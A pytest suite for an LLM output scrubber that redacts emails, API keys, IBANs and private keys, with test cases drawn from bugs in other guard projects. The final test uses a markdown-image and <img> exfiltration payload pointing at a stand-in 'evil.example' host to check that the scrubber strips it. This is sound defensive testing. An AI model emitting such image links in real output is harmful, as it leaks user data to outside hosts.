"""Reports against scrubbers of others, as tests of their kind; numbers are those of the projects' issues."""

from __future__ import annotations

import json
import logging

import pytest
from cutting import same_for_every_cut
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage

from langchain_guard import OutputBlocked, OutputScrubber, Vault
from langchain_guard.scrub.rows import fake
from langchain_guard.testing import Reply, ScriptedChatModel

MAIL = "bob@example.com"
GITHUB = "ghp_" + fake(36)
OPENAI = "sk-" + fake(48)
PEM = "-----BEGIN PRIVATE KEY-----\n" + "\n".join([fake(64)] * 8) + "\n-----END PRIVATE KEY-----"


# Streams: langchain 35011, 37659's sibling finding A; litellm 41611, 31503, 29134; mastra 23783; NeMo 1259; guardrails 1118
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("write bob@example.com now", "write [EMAIL] now"),
        ("write jane.doe@example.com. Bye", "write [EMAIL]. Bye"),
        ("at bob.smith@mail.example.com.au!", "at [EMAIL]!"),
        ("host 10.20.30.140 is up", "host [IPV4] is up"),
        ("https://u:p4ss@intra.example.com/reset?token=abc123DEF456 x", "[URL_CREDENTIALS] x"),
        ("202-555-0134 bob@example.com", "[PHONE] [EMAIL]"),
        ("safe and  sound.\n\nHello. Please", "safe and  sound.\n\nHello. Please"),
        (f"{PEM} after", "[PRIVATE_KEY] after"),
    ],
)
def test_a_value_cut_by_the_stream(text: str, expected: str) -> None:
    same_for_every_cut(OutputScrubber().scanner, text, expected)


def test_every_chunk_arrives() -> None:
    """litellm 20027: each fifth chunk was emptied; langchain finding B: the last 128 characters never came."""
    parts = [f"{letter} " for letter in "abcdefghij"]
    model = ScriptedChatModel(Reply(*parts))
    got = [chunk.content for chunk in (model | OutputScrubber()).stream("x") if chunk.content]
    assert "".join(got) == "".join(parts)
    assert len(got) == len(parts)


def test_text_before_a_value_does_not_wait_for_it() -> None:
    """litellm 29134: nothing was shown before the whole answer was there."""
    released = OutputScrubber().scanner().feed("The answer is in the mail that bob")
    assert released == "The answer is in the mail that "


def test_a_value_longer_than_any_window() -> None:
    """elizaOS 15356: 600 characters after `Bearer ` leaked when the opener left the window."""
    for size in (600, 6000):
        text = "Authorization: Bearer " + fake(size) + " done"
        scrubber = OutputScrubber()
        out = scrubber.scrub(text)
        assert out.endswith("] done")
        assert fake(20) not in out
        scanner, streamed = scrubber.scanner(), ""
        for start in range(0, len(text), 7):
            streamed += scanner.feed(text[start : start + 7])
        assert streamed + scanner.close() == out


# Message surfaces: langchain 37659, 40704, 39966, 39894; NeMo 2375
def test_tool_arguments_of_a_message_without_text() -> None:
    message = AIMessage("", tool_calls=[{"name": "send", "args": {"to": MAIL}, "id": "1"}])
    assert OutputScrubber().invoke(message).tool_calls[0]["args"] == {"to": "[EMAIL]"}


def test_every_message_of_a_history() -> None:
    history = [HumanMessage(f"mail {MAIL}"), AIMessage("ok"), HumanMessage("hi"), AIMessage(MAIL)]
    out = OutputScrubber().invoke(history)
    assert [message.content for message in out] == ["mail [EMAIL]", "ok", "hi", "[EMAIL]"]
    assert out[1] is history[1]


def test_content_blocks_keep_their_shape() -> None:
    message = AIMessage([{"type": "text", "text": MAIL}], additional_kwargs={"note": "kept"})
    out = OutputScrubber().invoke(message)
    assert out.content == [{"type": "text", "text": "[EMAIL]"}]
    assert out.additional_kwargs == {"note": "kept"}


def test_raw_json_arguments() -> None:
    r"""Finding D: scrubbing raw JSON ate the `\n` before an address, and an escaped @ passed."""
    chunks = ['{"t": "a\\n', "bob@exam", 'ple.com", "u": "eve\\u00', '40example.com"}']
    source = [
        AIMessageChunk(
            "",
            tool_call_chunks=[
                {"name": "f" if i == 0 else None, "args": part, "id": "1" if i == 0 else None, "index": 0}
            ],
        )
        for i, part in enumerate(chunks)
    ]
    out = list(OutputScrubber().transform(iter(source)))
    whole = out[0]
    for chunk in out[1:]:
        whole += chunk
    assert json.loads(whole.tool_call_chunks[0]["args"]) == {"t": "a\n[EMAIL]", "u": "[EMAIL]"}


def test_an_unknown_shape_is_refused() -> None:
    """litellm 31063: what the hook did not know passed unmasked with a warning."""
    from langchain_guard import GuardUnavailable

    with pytest.raises(GuardUnavailable) as error:
        OutputScrubber().invoke(object())
    assert error.value.rule == "unreadable"


# What is found: langchain 40000; llm-guard 305, 293; presidio 1923..; detect-secrets 493; litellm 29032, 39879; presidio 1795
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("3782 822463 10005 or 6011000990139424 or 30569309025904", "[CREDIT_CARD] or [CREDIT_CARD] or [CREDIT_CARD]"),
        (f"k1 {OPENAI} and {GITHUB}", "k1 [OPENAI_KEY] and [GITHUB_TOKEN]"),
        (f"{GITHUB}\nx\n{GITHUB}", "[GITHUB_TOKEN]\nx\n[GITHUB_TOKEN]"),
        ("sk-12ab34cd56ef78gh90jk", "[OPENAI_KEY]"),
        ("sk-12ab34", "sk-12ab34"),
        ("a@example.com b@example.org c@example.net", "[EMAIL] [EMAIL] [EMAIL]"),
        ("DE89370400440532013000 failed", "[IBAN] failed"),
        ("DE89 3704 0044 0532 0130 00 FAILED", "[IBAN] FAILED"),
        ("BE68 5390 0754 7034 PLEASE", "[IBAN] PLEASE"),
        (f"{PEM}\ntext", "[PRIVATE_KEY]\ntext"),
        ("-----BEGIN PRIVATE KEY-----\n" + fake(64) + "\n" + fake(30), "[PRIVATE_KEY]"),
        (f"({GITHUB}), <b>{GITHUB}</b>", "([GITHUB_TOKEN]), <b>[GITHUB_TOKEN]</b>"),
        ("密码是" + GITHUB + "，谢谢", "密码是[GITHUB_TOKEN]，谢谢"),
        ("bob%40example.com bob\\u0040example.com bob＠example.com", "[EMAIL] [EMAIL] [EMAIL]"),
    ],
)
def test_what_must_be_found(text: str, expected: str) -> None:
    assert OutputScrubber().scrub(text) == expected


# What must be left alone: presidio 1063, 1498, 1395, 1173, 786, 1048; detect-secrets 250, 285, 693; gitleaks 1578, 1728,
# 1219; llmgateway 3641; gram 2915; litellm 39879
@pytest.mark.parametrize(
    "text",
    [
        "<task-notification-summary-identifier>",
        "policy H1 public",
        "os.system('ls'); rpc.py",
        "std::vector<int> v; LWP::UserAgent::new(); ::1 and ::",
        "6033391 and 1607635102.00 -0.96",
        "1234-5678-1234-5678",
        "732f51d4-033a-47be-baf4-c4d2a22f9368",
        'integrity="sha512-' + fake(86) + '=="',
        "sha256:80615a55099b0de1c45f8602a94c063d4a6f1cf21d7abfb111e7af317bed066f",
        'keyword = "Abc_P2"',
        "public_key = " + fake(43),
        "created_at 1755302400, commit 9a26c8ff77fcfb42bd86fc22e646a7650d39b8ca, v1.2.3.4, Section 1.2.3.4",
        "ISBN 978-2-17-050276-4, SKU ISC-9966-WMG3, UPS 1Z7WXLHF2271075761, CVE-2014-34442",
        "Set OPENAI_API_KEY=<your key here> or api_key: ${API_KEY} or key = os.environ['KEY_1']",
        "password: required, the password is wrong, passwords must be at least 12 characters",
        "git@github.com:org/repo.git",
        "-----BEGIN CERTIFICATE-----",
        "![logo](data:image/png;base64,iVBORw0KGgodPx4JWkIhA7gjAFjarISMzlBCbi8Cn8p3DrE5ldBwEkQhS4sTfGVSwprGJDb=)",
        "12:30:45, 00:00:00:00:00:00 and 127.0.0.1 or 192.0.2.1",
    ],
)
def test_what_must_be_left_alone(text: str) -> None:
    assert OutputScrubber().scrub(text) == text


# Vaults: litellm 30028, 30206, 30316, 41600; llm-guard 82; presidio 1151; findings E and J
def test_placeholders() -> None:
    vault = Vault()
    assert vault.hide.invoke("ann@example.com") == "[EMAIL_1]"
    assert vault.hide.invoke("bob@example.com, ann@example.com") == "[EMAIL_2], [EMAIL_1]"
    assert list(vault.restore.transform(iter(["<[EMA", "IL_1]> Dear [EMAIL", "_2]"]))) == [
        "<",
        "ann@example.com> Dear ",
        "bob@example.com",
    ]
    text = "x ann@example.com y, 10.20.30.40 ann@example.com"
    assert vault.restore.invoke(vault.hide.invoke(text)) == text


# Errors and reports: langchain's PIIDetectionError.matches; trivy 11003
def test_nothing_that_is_found_is_shown(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    guard = OutputScrubber(actions={"*": "block"})
    with pytest.raises(OutputBlocked) as error:
        guard.invoke(f"next to {MAIL} {GITHUB}")
    verdict = guard.check(f"next to {MAIL} {GITHUB}")
    shown = f"{error.value} {error.value!r} {vars(error.value)} {verdict} {verdict.payload()} {verdict.records()} {caplog.text}"
    assert "bob" not in shown
    assert "ghp_" not in shown
    assert "next to" not in shown


# Exfiltration: garak 1930, ai-dial-chat 7109, dust 12359
def test_an_image_that_carries_data_away() -> None:
    out = OutputScrubber(allow_hosts=["example.com"]).scrub(
        '<img src="https://evil.example/?q=S"> ![x](https://evil.example/?q=S)'
    )
    assert "evil" not in out
